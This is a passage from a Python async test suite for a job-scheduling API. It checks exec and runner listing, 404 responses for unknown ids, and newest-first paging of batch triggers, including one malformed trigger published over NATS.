    assert [e["id"] for e in first["items"] + second["items"]] == list(reversed(ids))


async def test_exec_list_rejects_unknown_filter_field(api):
    await expect_error(400, api.call("exec", "list", {"filter": {"colour": "red"}}))


async def test_exec_get_unknown_is_404(api):
    await expect_error(404, api.call("exec", "get", {"id": "nope"}))


async def test_runner_list_is_empty_on_a_fresh_org(api):
    assert await api.call("runner", "list", {}) == {"items": []}


async def test_task_modules_is_empty_on_a_fresh_org(api):
    assert await api.call("task", "modules", {}) == {"modules": []}


async def test_batch_triggers_pages_newest_first_and_survives_a_malformed_trigger(api, nc, org, make_batch):
    batch = await make_batch(is_enabled=True, catch_up="none", concurrency="allow")
    subject = f"bd.{org}.trigger.{batch['id']}"
    await nc.jetstream().publish(subject, json.dumps({"batch_id": batch["id"]}).encode())  # no trigger_id
    ticks = [f"2026-11-2{day}T03:00:00.000Z" for day in range(1, 5)]
    for tick in ticks:
        await publish_trigger(nc, org, cron_trigger(batch["id"], scheduled_at=tick))
        assert await wait_for(lambda: trigger_drained(nc, org, batch["id"]))

    first = await api.call("batch", "triggers", {"id": batch["id"], "per_page": 2})
    assert (first["total"], first["pages"]) == (5, 3)
    assert [t["scheduled_at"] for t in first["items"]] == ticks[::-1][:2]
    second = await api.call("batch", "triggers", {"id": batch["id"], "per_page": 2, "page": 2})
    assert [t["scheduled_at"] for t in second["items"]] == ticks[::-1][2:]
    last = await api.call("batch", "triggers", {"id": batch["id"], "per_page": 2, "page": 3})
    assert len(last["items"]) == 1 and last["items"][0]["execution_id"] is None and last["items"][0]["error"]
    beyond = await api.call("batch", "triggers", {"id": batch["id"], "per_page": 2, "page": 4})
    assert beyond["items"] == [] and beyond["total"] == 5
    await expect_error(404, api.call("batch", "triggers", {"id": "ghost"}))
